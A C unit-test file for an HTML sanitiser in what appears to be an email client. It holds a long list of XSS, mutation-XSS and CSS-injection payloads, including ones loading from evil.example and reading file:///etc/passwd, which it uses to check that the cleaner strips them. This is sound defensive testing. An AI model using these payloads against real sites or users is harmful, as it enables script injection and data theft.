/* SPDX-License-Identifier: GPL-3.0-or-later */

/* The cleaner against attacks, judged by another parser (libxml2) and lists of its own, and for
 * what it must keep. */

#include <libxml/HTMLparser.h>
#include <string.h>

#include "loft-html.h"

static const char *const allowed_elements[] = {
  "html", "body", "p", /* made up by libxml2 around a fragment */
  "a", "abbr", "acronym", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote",
  "br", "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "dfn", "div", "dl",
  "dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6",
  "header", "hgroup", "hr", "i", "img", "ins", "kbd", "li", "main", "mark", "menu", "nav", "ol",
  "pre", "q", "rp", "rt", "ruby", "s", "samp", "section", "small", "span", "strike", "strong",
  "style", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u",
  "ul", "var", "wbr", NULL,
};

static const char *const allowed_attributes[] = {
  "abbr", "align", "alt", "bgcolor", "border", "bordercolor", "cellpadding", "cellspacing",
  "class", "clear", "color", "colspan", "data-loft-background", "data-loft-src", "dir", "face",
  "height", "href", "hspace", "id", "lang", "noshade", "nowrap", "reversed", "rowspan", "scope",
  "size", "span", "src", "start", "style", "summary", "text", "title", "type", "valign", "value",
  "vspace", "width", NULL,
};

static gboolean
starts_with_one (const char *text, const char *const *prefixes)
{
  for (; *prefixes != NULL; prefixes++)
    if (g_ascii_strncasecmp (text, *prefixes, strlen (*prefixes)) == 0)
      return TRUE;
  return FALSE;
}

static void
check_css (const char *css)
{
  static const char *const forbidden[] = {
    "url", "expression", "javascript", "@import", "font-face", "position", "behavior", "binding",
    "\\", "<", "/*", "z-index", "content:", "animation", "transform:", "filter", ":-", ": -", NULL,
  };
  g_autofree char *lower = g_ascii_strdown (css, -1);

  for (gsize i = 0; forbidden[i] != NULL; i++)
    if (strstr (lower, forbidden[i]) != NULL)
      g_error ("\"%s\" is left in style: %s", forbidden[i], css);
}

static void
check_attribute (const char *element, const char *name, const char *value)
{
  static const char *const links[] = { "http:", "https:", "mailto:", "tel:", "webcal:", NULL };
  static const char *const images[] = {
    "cid:", "data:image/png;base64,", "data:image/jpeg;base64,", "data:image/jpg;base64,",
    "data:image/gif;base64,", "data:image/webp;base64,", NULL,
  };
  static const char *const remote[] = { "http:", "https:", NULL };

  if (!g_strv_contains (allowed_attributes, name))
    g_error ("attribute %s is left", name);
  if (strcmp (name, "href") == 0)
    g_assert_true (strcmp (element, "a") == 0 && starts_with_one (value, links));
  if (strcmp (name, "src") == 0)
    g_assert_true (strcmp (element, "img") == 0 && starts_with_one (value, images));
  if (g_str_has_prefix (name, "data-"))
    g_assert_true (starts_with_one (value, remote));
  if (strcmp (name, "style") == 0)
    check_css (value);
  if (strcmp (name, "id") == 0)
    g_assert_null (strstr (value, "loft-"));
}

static void
check_node (xmlNode *node)
{
  for (; node != NULL; node = node->next)
    {
      if (node->type == XML_COMMENT_NODE || node->type == XML_PI_NODE)
        g_error ("a comment is left: %s", (char *) node->content);
      if (node->type != XML_ELEMENT_NODE)
        continue;
      if (!g_strv_contains (allowed_elements, (const char *) node->name))
        g_error ("element %s is left", (const char *) node->name);
      if (strcmp ((const char *) node->name, "style") == 0)
        {
          xmlChar *css = xmlNodeGetContent (node);

          check_css ((const char *) css);
          xmlFree (css);
        }
      for (xmlAttr *attribute = node->properties; attribute != NULL; attribute = attribute->next)
        {
          xmlChar *value = xmlNodeGetContent ((xmlNode *) attribute);

          check_attribute ((const char *) node->name, (const char *) attribute->name,
                           (const char *) value);
          xmlFree (value);
        }
      check_node (node->children);
    }
}

/* The output as another parser reads it holds nothing but what is on the lists. */
static void
check_clean (const LoftCleanHtml *clean)
{
  int options = HTML_PARSE_RECOVER | HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING |
                HTML_PARSE_NONET | XML_PARSE_HUGE;
  g_autofree char *page =
    g_strdup_printf ("<html><body><div>%s</div></body></html>", clean->html);
  htmlDocPtr document = htmlReadMemory (page, strlen (page), NULL, "UTF-8", options);

  g_assert_nonnull (document);
  check_node (xmlDocGetRootElement (document));
  xmlFreeDoc (document);
}

static const char *const attacks[] = {
  /* Scripts. */
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/x>alert(1)</script\t\n>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script>alert(1)",
  "<script><!--</script><img src=x onerror=alert(1)>-->",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
  "<a href='javascript&colon;alert(1)'>x</a>",
  "<a href='\x01javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='smb://evil/share'>x</a>",
  "<a href='\\\\evil\\share'>x</a>",
  "<a href='ms-word:ofe|u|http://evil'>x</a>",
  "<a href='x' href='javascript:alert(1)'>x</a>",
  "<a href=http://good href=javascript:alert(1)>x</a>",
  "<a xlink:href='javascript:alert(1)'>x</a>",
  /* Event handlers. */
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src='x'onerror='alert(1)'>",
  "<img src=\"x\" \"onerror=alert(1)\">",
  "<img src=x onerror\n=alert(1)>",
  "<body onload=alert(1)>",
  "<body style='color:red' onload=alert(1)>",
  "<div onclick=alert(1) ONMOUSEOVER=alert(1)>x</div>",
  "<p/onclick=alert(1)>x",
  "<b title='\"><img src=x onerror=alert(1)>'>x</b>",
  "<b title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</b>",
  "<b title='`><img src=x onerror=alert(1)>'>x</b>",
  "<details open ontoggle=alert(1)>x</details>",
  "<a style=x onfocus=alert(1) autofocus tabindex=1>x</a>",
  /* Things that load. */
  "<iframe src=http://evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<frameset><frame src=http://evil.example></frameset>",
  "<object data=http://evil.example><img src=http://evil.example/x></object>",
  "<embed src=http://evil.example>",
  "<applet code=x></applet>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "<link rel=preconnect href=http://evil.example>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=http://evil.example'>",
  "<meta http-equiv=Set-Cookie content=x>",
  "<base href=http://evil.example/>",
  "<img src=http://evil.example/x.gif>",
  "<img src=//evil.example/x.gif>",
  "<img src='ht\ntp://evil.example/x.gif'>",
  "<img srcset='http://evil.example/x.gif 2x'>",
  "<img src=cid:x srcset='http://evil.example/x.gif 2x'>",
  "<img lowsrc=http://evil.example/x.gif dynsrc=http://evil.example/x>",
  "<input type=image src=http://evil.example/x.gif>",
  "<picture><source srcset=http://evil.example/x.gif><img src=cid:a></picture>",
  "<video src=http://evil.example poster=http://evil.example/x></video>",
  "<audio><source src=http://evil.example></audio>",
  "<table background=http://evil.example/x.gif><tr><td background=//evil.example/y>x</table>",
  "<body background=http://evil.example/x.gif>x",
  "<bgsound src=http://evil.example>",
  "<isindex action=javascript:alert(1)>",
  "<q cite=http://evil.example>x</q>",
  "<a href=http://good ping=http://evil.example>x</a>",
  "<html manifest=http://evil.example>x",
  "<v:fill src=http://evil.example/x></v:fill>",
  "<img data-loft-src=javascript:alert(1)>",
  "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
  "<img src='data:text/html;base64,PHA+'>",
  "<img src='data:image/png,x'>",
  "<img src='data:image/png;base64,\"onerror=alert(1)'>",
  /* Forms. */
  "<form action=http://evil.example><input name=password><button formaction=javascript:x>y</form>",
  "<form id=x></form><button form=x formaction=http://evil.example>y</button>",
  "<select onchange=alert(1)><option>x</select>",
  "<textarea></textarea><script>alert(1)</script></textarea>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<input autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  /* Other languages in HTML. */
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg/><img src=x onerror=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
  "<math href='javascript:alert(1)'>x</math>",
  "<template><script>alert(1)</script></template>",
  "<xml id=x><a><b>&lt;script&gt;</b></a></xml>",
  "<?xml-stylesheet href=http://evil.example?>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
  /* Texts that turn into markup when read twice. */
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
  "<style><a title=\"</style><img src=x onerror=alert(1)>\"></style>",
  "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--!><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<!- x --><img src=x onerror=alert(1)>",
  "</p title=\"><img src=x onerror=alert(1)>\">",
  "</ <img src=x onerror=alert(1)>>",
  "<%<!--'%><script>alert(1);</script -->",
  "<a<b onclick=alert(1)>x",
  "<img src=\"cid:a&quot; onerror=alert(1)\">",
  "<img src='cid:a\"onerror=\"alert(1)'>",
  "<img src=x onerror=alert(1)//",
  "<img src='x",
  "<b title=\"x",
  "<",
  "</",
  "<!",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&<b></b>lt;script>",
  "\xff\xfe<script>",
  "<scr\xc0\x80ipt>alert(1)</script>",
  /* Style. */
  "<div style='background:url(http://evil.example/x)'>x</div>",
  "<div style='background-image:url(\"//evil.example/x\")'>x</div>",
  "<div style='background:u\\72l(http://evil.example/x)'>x</div>",
  "<div style='background:ur/**/l(http://evil.example/x)'>x</div>",
  "<div style='list-style:url(http://evil.example/x)'>x</div>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<div style='width:exp/**/ression(alert(1))'>x</div>",
  "<div style='behavior:url(x.htc)'>x</div>",
  "<div style='-moz-binding:url(x)'>x</div>",
  "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
  "<div style='margin-left:-5000px'>x</div>",
  "<div style='margin:0 -10px'>x</div>",
  "<div style='margin:0 calc(0px - 100px)'>x</div>",
  "<div style='width:1e9px;height:99999px'>x</div>",
  "<div style='color:red;}body{background:red'>x</div>",
  "<div style='color:red\";onclick=alert(1)'>x</div>",
  "<div style=\"font-family:'a;position:fixed'\">x</div>",
  "<div style='font-family:\"</style><script>\"'>x</div>",
  "<div style='color:var(--x)'>x</div>",
  "<div style='content:attr(title)'>x</div>",
  "<div style='color:red !important;position:absolute!important'>x</div>",
  "<style>@import url(http://evil.example/x.css);</style>",
  "<style>@import 'http://evil.example/x.css';p{color:red}</style>",
  "<style>@font-face{font-family:x;src:url(http://evil.example/x)}</style>",
  "<style>p{background:url(http://evil.example/x)}</style>",
  "<style>p{color:red}</style ><script>alert(1)</script>",
  "<style>p{color:red}/*</style><img src=x onerror=alert(1)>*/</style>",
  "<style><!-- p{color:red} --></style>",
  "<style>input[value^=a]{background:url(//evil.example)}</style>",
  "<style>p::before{content:'x'}</style>",
  "<style>a:hover{color:red}</style>",
  "<style>*{position:fixed}</style>",
  "<style>@media print{p{display:none}}</style>",
  "<style>@media screen{@import 'x';p{position:fixed;color:red}}</style>",
  "<style>@media screen and (max-width:600px){.a{width:100%}",
  "<style>.loft-header{display:none}</style><p class='loft-header x' id=loft-body>x</p>",
  "<style>body + div{color:red} html ~ p{color:red} body * {color:red}</style>",
  "<style>p{color:red;background:\\75rl(x)}@charset 'x';@namespace x;</style>",
  "<style>p{font-family:'</style><script>alert(1)</script>'}</style>",
  "<style>{}}}p{color:red}{{{</style>",
  "<style>p{color:red",
};

static void
test_attacks (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (attacks); i++)
    {
      g_autoptr (LoftCleanHtml) clean = loft_html_clean (attacks[i], -1);
      g_autofree char *within = g_strdup_printf ("<table><tr><td>%s</td></tr></table>", attacks[i]);
      g_autoptr (LoftCleanHtml) clean_within = loft_html_clean (within, -1);
      g_autofree char *shown = g_strescape (attacks[i], NULL);

      g_test_message ("%s", shown);
      check_clean (clean);
      check_clean (clean_within);
      for (gsize length = 0; length < strlen (attacks[i]); length++)
        {
          g_autofree char *copy = g_memdup2 (attacks[i], length);
          g_autoptr (LoftCleanHtml) cut = loft_html_clean (copy != NULL ? copy : "", length);

          check_clean (cut);
        }
    }
}

/* Every attack behind every other: what one leaves open the next must not use. */
static void
test_pairs (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (attacks); i++)
    for (gsize k = 0; k < G_N_ELEMENTS (attacks); k++)
      {
        g_autofree char *pair = g_strconcat (attacks[i], attacks[k], NULL);
        g_autoptr (LoftCleanHtml) clean = loft_html_clean (pair, -1);

        check_clean (clean);
      }
}

static const struct {
  const char *html;
  const char *expected;
} kept[] = {
  { "", "" },
  { "a & b &amp; c &lt; d", "a & b &amp; c &lt; d" },
  { "1 < 2 > 1", "1 &lt; 2 &gt; 1" },
  { "<p>a</p>", "<p>a</p>" },
  { "<P ALIGN=Center>a", "<p align=\"Center\">a</p>" },
  { "<p>a<p>b", "<p>a</p><p>b</p>" },
  { "<p>a<div>b</div>", "<p>a</p><div>b</div>" },
  { "<ul><li>a<li>b<ul><li>c</ul></ul>",
    "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>" },
  { "<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>" },
  { "<table><tr><td>a<td>b<tr><td>c</table>",
    "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>" },
  { "<table><tbody><tr><td>a<tbody><tr><td>b</table>",
    "<table><tbody><tr><td>a</td></tr></tbody><tbody><tr><td>b</td></tr></tbody></table>" },
  { "<table><tr><td><table><tr><td>a</table>b</table>",
    "<table><tr><td><table><tr><td>a</td></tr></table>b</td></tr></table>" },
  { "<div><table><tr><td></div>a</td></tr></table></div>",
    "<div><table><tr><td>a</td></tr></table></div>" },
  { "<b><i>a</b>b</i>", "<b><i>a</i></b>b" },
  { "</b></p></div>a", "a" },
  { "<a href=http://a>x<a href=http://b>y",
    "<a href=\"http://a\">x</a><a href=\"http://b\">y</a>" },
  { "<a href='https://x/?a=1&amp;b=2&copy=3'>x</a>",
    "<a href=\"https://x/?a=1&amp;b=2&amp;copy=3\">x</a>" },
  { "<a href=' HTTPS://x '>x</a>", "<a href=\"HTTPS://x\">x</a>" },
  { "<a href='//x/y'>x</a>", "<a href=\"https://x/y\">x</a>" },
  { "<a href=mailto:a@b>x</a><a href=tel:1>y</a><a href=webcal://z>z</a>",
    "<a href=\"mailto:a@b\">x</a><a href=\"tel:1\">y</a><a href=\"webcal://z\">z</a>" },
  { "<a href='#top'>x</a>", "<a>x</a>" },
  { "<img src=cid:a%40b alt='A \"b\"' width=10>",
    "<img src=\"cid:a%40b\" alt=\"A &quot;b&quot;\" width=\"10\">" },
  { "<img src='data:image/png;base64,iVBO\nRw=='>",
    "<img src=\"data:image/png;base64,iVBORw==\">" },
  { "<img src=http://x/y.png width=4 height=4>",
    "<img width=\"4\" height=\"4\" data-loft-src=\"http://x/y.png\">" },
  { "<img srcset='https://x/1 1x, https://x/2 2x'>", "<img data-loft-src=\"https://x/1\">" },
  { "<td background='http://x/a'>b</td>", "<td data-loft-background=\"http://x/a\">b</td>" },
  { "<font color=#f00 face='Arial, x' size=+1>a</font>",
    "<font color=\"#f00\" face=\"Arial, x\" size=\"+1\">a</font>" },
  { "<td colspan=2 rowspan=99999 width=50% height=1.5px>a</td>",
    "<td colspan=\"2\" width=\"50%\" height=\"1.5px\">a</td>" },
  { "<form><label>a</label><button>b</button></form>",
    "<div><span>a</span><span>b</span></div>" },
  { "<p class='a loft-x b:c d' id=e>x</p>", "<p class=\"a d\" id=\"e\">x</p>" },
  { "<p title='a' title='b'>x</p>", "<p title=\"a\">x</p>" },
  { "<p style='color: red; MARGIN:0 auto; unknown:1; padding:1px 2.5em'>x</p>",
    "<p style=\"color:red;margin:0 auto;padding:1px 2.5em;\">x</p>" },
  { "<p style=\"font:bold 12px/1.5 'Segoe UI',sans-serif;color:rgba(1,2,3,.5)!important\">x</p>",
    "<p style=\"font:bold 12px/1.5 'Segoe UI',sans-serif;color:rgba(1,2,3,.5)!important;\">x</p>" },
  { "<p style='background:#FFF url(cid:x) no-repeat'>x</p>",
    "<p style=\"background-color:#fff;\">x</p>" },
  { "<p style='background:url(http://x/a.png) center red'>x</p>",
    "<p style=\"background-color:red;\" data-loft-background=\"http://x/a.png\">x</p>" },
  { "<p style='background:none'>x</p>", "<p>x</p>" },
  { "<p style='display:none;display:flex;display:Table-Cell'>x</p>",
    "<p style=\"display:none;display:Table-Cell;\">x</p>" },
  { "<html><head><title>t</title></head><body>x</body></html>", "x" },
  { "<body bgcolor=ffffff text=black style='margin:0'>x</body>",
    "<div class=\"loft-body\" style=\"background-color:#ffffff;color:black;margin:0;\">x</div>" },
  { "<style>p{color:red}</style><p>x",
    "<div class=\"loft-body\"><style>\n.loft-body p{color:red;}\n</style>\n<p>x</p></div>" },
  { "<style>body.a{margin:0}.b,#c td > b{color:red;position:fixed}</style>x",
    "<div class=\"loft-body\"><style>\n.loft-body.a{margin:0;}\n"
    ".loft-body .b,.loft-body #c td > b{color:red;}\n</style>\nx</div>" },
  { "<style>@media only screen and (max-width: 600px){.a{width:100%}b:hover{color:red}}</style>x",
    "<div class=\"loft-body\"><style>\n@media only screen and (max-width: 600px){\n"
    ".loft-body .a{width:100%;}\n}\n</style>\nx</div>" },
  { "<style>@media print{p{color:red}}</style>x", "x" },
  { "<style>.loft-bar,#a-loft-b{color:red}p{color:red}</style>",
    "<div class=\"loft-body\"><style>\n.loft-body p{color:red;}\n</style>\n</div>" },
};

static void
test_kept (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (kept); i++)
    {
      g_autoptr (LoftCleanHtml) clean = loft_html_clean (kept[i].html, -1);

      g_assert_cmpstr (clean->html, ==, kept[i].expected);
      check_clean (clean);
    }
}

static void
test_findings (void)
{
  static const struct {
    const char *html;
    gboolean has_remote;
    gboolean sets_colors;
  } rows[] = {
    { "<p>a</p>", FALSE, FALSE },
    { "<img src=cid:a>", FALSE, FALSE },
    { "<img src=http://x>", TRUE, FALSE },
    { "<img src=cid:a srcset=http://x>", FALSE, FALSE },
    { "<td background=http://x>", TRUE, FALSE },
    { "<p style='background:url(http://x)'>", TRUE, FALSE },
    { "<p style='background:url(cid:x)'>", FALSE, FALSE },
    { "<a href=http://x>", FALSE, FALSE },
    { "<script src=http://x></script>", FALSE, FALSE },
    { "<p style='color:red'>", FALSE, TRUE },
    { "<p style='background:red'>", FALSE, TRUE },
    { "<font color=red>", FALSE, TRUE },
    { "<td bgcolor=red>", FALSE, TRUE },
    { "<body bgcolor=red>", FALSE, TRUE },
    { "<style>p{background-color:red}</style>", FALSE, TRUE },
    { "<p style='font-weight:bold'>", FALSE, FALSE },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr (LoftCleanHtml) clean = loft_html_clean (rows[i].html, -1);

      g_test_message ("%s", rows[i].html);
      g_assert_cmpint (clean->has_remote_content, ==, rows[i].has_remote);
      g_assert_cmpint (clean->sets_colors, ==, rows[i].sets_colors);
    }
}

static char *
repeat (const char *text, gsize n)
{
  GString *all = g_string_sized_new (strlen (text) * n + 1);

  for (gsize i = 0; i < n; i++)
    g_string_append (all, text);
  return g_string_free (all, FALSE);
}

/* Deeper than browsers like, or long in one place: it ends, the text is there, and what is written
 * is flat enough. */
static void
test_bombs (void)
{
  static const char *const units[] = {
    "<div>", "<b>", "<table><tr><td>", "<ul><li>", "<blockquote>", "</div>", "<p>",
    "<a href=http://x>", "<", "<!--", "<b title='", "&", "&#1", "<b ", "<b x=1 ", "<svg>",
    "<style>", "<style>a{", "</", "<p style='", "<img src=http://x>", "<li>", "<dl><dt>",
    "<form>", "<p style='a:b;c:(\"'>",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (units); i++)
    {
      g_autofree char *bomb = repeat (units[i], 100000);
      g_autofree char *html = g_strconcat ("start ", bomb, NULL);
      g_autoptr (LoftCleanHtml) clean = loft_html_clean (html, -1);
      g_autofree char *text = loft_html_to_text (html, -1, 1000000);

      g_assert_nonnull (strstr (clean->html, "start "));
      g_assert_true (g_str_has_prefix (text, "start"));
    }
}

static void
test_depth (void)
{
  g_autofree char *open = repeat ("<div>", 100000);
  g_autofree char *close = repeat ("</div>", 100000);
  g_autofree char *html = g_strconcat (open, "x", close, "y", NULL);
  g_autoptr (LoftCleanHtml) clean = loft_html_clean (html, -1);

  g_assert_true (g_str_has_suffix (clean->html, "</div>y"));
  g_assert_cmpuint (strlen (clean->html), ==, 256 * strlen ("<div></div>") + 2);
  check_clean (clean);
}

static void
test_data_image_limit (void)
{
  g_autofree char *bytes = g_strnfill (2 * 1024 * 1024 / 3 * 4, 'A');
  g_autofree char *at_limit = g_strdup_printf ("<img src='data:image/png;base64,%s'>", bytes);
  g_autofree char *beyond = g_strdup_printf ("<img src='data:image/png;base64,%sAAAAAAAA'>", bytes);
  g_autoptr (LoftCleanHtml) shown = loft_html_clean (at_limit, -1);
  g_autoptr (LoftCleanHtml) dropped = loft_html_clean (beyond, -1);

  g_assert_nonnull (strstr (shown->html, "src="));
  g_assert_cmpstr (dropped->html, ==, "<img>");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/html/cleaner/attacks", test_attacks);
  g_test_add_func ("/html/cleaner/pairs", test_pairs);
  g_test_add_func ("/html/cleaner/kept", test_kept);
  g_test_add_func ("/html/cleaner/findings", test_findings);
  g_test_add_func ("/html/cleaner/bombs", test_bombs);
  g_test_add_func ("/html/cleaner/depth", test_depth);
  g_test_add_func ("/html/cleaner/data-image-limit", test_data_image_limit);
  return g_test_run ();
}
